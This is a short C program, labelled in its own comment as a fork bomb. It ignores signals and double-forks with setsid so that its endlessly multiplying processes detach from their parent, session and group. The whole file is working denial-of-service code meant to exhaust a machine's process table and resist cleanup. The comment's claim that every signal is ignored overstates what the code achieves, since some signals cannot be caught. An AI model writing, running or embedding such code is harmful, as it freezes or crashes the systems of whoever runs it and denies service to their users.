/* fork bomb whose processes ignore every signal and leave their parent, session and group */
#include <signal.h>
#include <unistd.h>
int main(void) {
  for (int signal_number = 1; signal_number < 65; ++signal_number) signal(signal_number, SIG_IGN);
  for (;;) {
    if (fork() != 0) continue;
    setsid();
    if (fork() > 0) _exit(0);
  }
}
